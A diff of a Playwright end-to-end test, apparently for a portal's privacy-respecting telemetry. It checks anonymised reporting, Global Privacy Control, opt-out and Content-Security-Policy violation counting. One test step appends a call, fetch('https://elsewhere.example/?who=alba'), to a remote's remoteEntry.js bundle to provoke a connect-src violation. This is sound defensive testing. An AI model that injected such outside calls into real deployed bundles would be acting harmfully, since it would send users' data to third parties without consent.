@@ -7,10 +7,10 @@ import { releasesOf } from "../support/releases.ts";
 
 test.use({ ownPortal: true });
 
-const soon = { timeout: 60_000 };
+const waitOptions = { timeout: 60_000 };
 
 /** What a page sends to the service about itself. */
-function noteSent(page: Page): { readonly bodies: unknown[] } {
+function recordTelemetry(page: Page): { readonly bodies: unknown[] } {
   const bodies: unknown[] = [];
   page.on("request", (request) => {
     if (request.method() === "POST" && new URL(request.url()).pathname === "/api/telemetry")
@@ -26,10 +26,11 @@ test("loads, failures, web vitals and violations are told without names, shown b
 }) => {
   test.slow();
   const releases = releasesOf(portal);
-  const status = async (): Promise<string> => (await releases.command("status")).said;
+  const readStatus = async (): Promise<string> => (await releases.runCommand("status")).output;
   /** Without violations, which browsers report by themselves. */
-  const measured = async (): Promise<string> => (await status()).replaceAll(/^.* violated .*\n/gm, "");
-  const sent = noteSent(page);
+  const readStatusWithoutViolations = async (): Promise<string> =>
+    (await readStatus()).replaceAll(/^.* violated .*\n/gm, "");
+  const pageTelemetry = recordTelemetry(page);
   const account = newAccount();
   await signUp(page, account);
 
@@ -41,9 +42,9 @@ test("loads, failures, web vitals and violations are told without names, shown b
     });
     await portal.processes.start("settings");
     await expect
-      .poll(status, soon)
+      .poll(readStatus, waitOptions)
       .toContain(`  settings  ${await releases.stable("settings")}  load  remote_unreachable  1`);
-    expect(await status()).toMatch(new RegExp(`  secrets  ${await releases.stable("secrets")}  load  ok  [1-9]`));
+    expect(await readStatus()).toMatch(new RegExp(`  secrets  ${await releases.stable("secrets")}  load  ok  [1-9]`));
   });
 
   await test.step("web vitals go when the page does, by the pattern of the route", async () => {
@@ -53,19 +54,21 @@ test("loads, failures, web vitals and violations are told without names, shown b
       performance.getEntriesByType("resource").some(({ name }) => /\/static\/.*vitals/.test(name)),
     );
     await page.goto("/help");
-    await expect.poll(status, soon).toMatch(/ {2}secrets {2}secrets-\S+ {2}\/secrets {2}(LCP|FCP|TTFB) {2}\d+ {2}/);
-    const text = JSON.stringify(sent.bodies);
+    await expect
+      .poll(readStatus, waitOptions)
+      .toMatch(/ {2}secrets {2}secrets-\S+ {2}\/secrets {2}(LCP|FCP|TTFB) {2}\d+ {2}/);
+    const text = JSON.stringify(pageTelemetry.bodies);
     for (const name of [account.userName, account.email, "http"]) expect(text).not.toContain(name);
   });
 
   await test.step("a violation of the policy is counted by the remote whose code it was; a visitor's page tells, unless the browser asks for privacy", async () => {
-    const former = await releases.stable("sharing");
-    const calling = await releases.makeNext(
+    const previousRelease = await releases.stable("sharing");
+    const fetchingRelease = await releases.createNextRelease(
       "sharing",
       "remoteEntry.js",
       (text) => `${text}\n;fetch("https://elsewhere.example/?who=alba").catch(() => null);`,
     );
-    expect(await releases.command("promote", calling)).toMatchObject({ ok: true });
+    expect(await releases.runCommand("promote", fetchingRelease)).toMatchObject({ ok: true });
     for (const privacy of [true, false]) {
       // beside the spec's own, in which nothing may be refused
       const context = await browser.newContext({ baseURL: portal.origin });
@@ -74,7 +77,7 @@ test("loads, failures, web vitals and violations are told without names, shown b
           Object.defineProperty(Navigator.prototype, "globalPrivacyControl", { get: () => true }),
         );
       const visitor = await context.newPage();
-      const told = noteSent(visitor);
+      const visitorTelemetry = recordTelemetry(visitor);
       await visitor.clock.install();
       await visitor.goto(`/shared/${"A".repeat(22)}`);
       await visitor.getByRole("heading", { level: 1 }).waitFor();
@@ -82,24 +85,26 @@ test("loads, failures, web vitals and violations are told without names, shown b
       await visitor.clock.fastForward(15_000); // what is noted goes after ten
       if (privacy) {
         await visitor.goto("/silent-renew.html"); // or when the page is hidden
-        expect(await measured()).not.toContain(`${calling}  `);
-        expect(told.bodies).toEqual([]);
+        expect(await readStatusWithoutViolations()).not.toContain(`${fetchingRelease}  `);
+        expect(visitorTelemetry.bodies).toEqual([]);
       } else {
         await expect
-          .poll(() => told.bodies)
+          .poll(() => visitorTelemetry.bodies)
           .toContainEqual(
             expect.objectContaining({
               events: expect.arrayContaining([
-                expect.objectContaining({ remote: "sharing", release: calling, phase: "load" }),
+                expect.objectContaining({ remote: "sharing", release: fetchingRelease, phase: "load" }),
               ]),
             }),
           );
-        await expect.poll(status, soon).toMatch(new RegExp(`  sharing  ${calling}  violated connect-src  [12]`));
+        await expect
+          .poll(readStatus, waitOptions)
+          .toMatch(new RegExp(`  sharing  ${fetchingRelease}  violated connect-src  [12]`));
       }
       await context.close();
     }
-    expect(await releases.command("rollback", "sharing")).toMatchObject({ ok: true });
-    expect(await releases.stable("sharing")).toBe(former);
+    expect(await releases.runCommand("rollback", "sharing")).toMatchObject({ ok: true });
+    expect(await releases.stable("sharing")).toBe(previousRelease);
   });
 
   await test.step("an act with a picture runs all workers", async () => {
@@ -110,15 +115,15 @@ test("loads, failures, web vitals and violations are told without names, shown b
 
   await test.step("whoever switched it off sends nothing any more", async () => {
     await page.goto("/settings/data");
-    const allowed = page.getByRole("switch", { name: "Allow measurements" });
+    const toggle = page.getByRole("switch", { name: "Allow measurements" });
     const saved = page.waitForResponse(
-      (answer) => answer.request().method() === "POST" && answer.url().endsWith("/api/user/me"),
+      (response) => response.request().method() === "POST" && response.url().endsWith("/api/user/me"),
     );
-    await allowed.click();
+    await toggle.click();
     expect((await saved).ok()).toBe(true);
-    await expect(allowed).not.toBeChecked();
-    const before = await measured();
-    sent.bodies.length = 0;
+    await expect(toggle).not.toBeChecked();
+    const statusBefore = await readStatusWithoutViolations();
+    pageTelemetry.bodies.length = 0;
     await page.clock.install();
     for (const path of ["/home", "/secrets", "/recived"]) {
       await page.goto(path);
@@ -127,9 +132,9 @@ test("loads, failures, web vitals and violations are told without names, shown b
     }
     await page.clock.fastForward(15_000);
     await page.goto("/silent-renew.html");
-    expect(sent.bodies).toEqual([]);
-    expect(await measured()).toBe(before);
+    expect(pageTelemetry.bodies).toEqual([]);
+    expect(await readStatusWithoutViolations()).toBe(statusBefore);
     // pages and workers of the portal itself violate nothing
-    expect(await status()).not.toMatch(/violated (?!connect-src)/);
+    expect(await readStatus()).not.toMatch(/violated (?!connect-src)/);
   });
 });
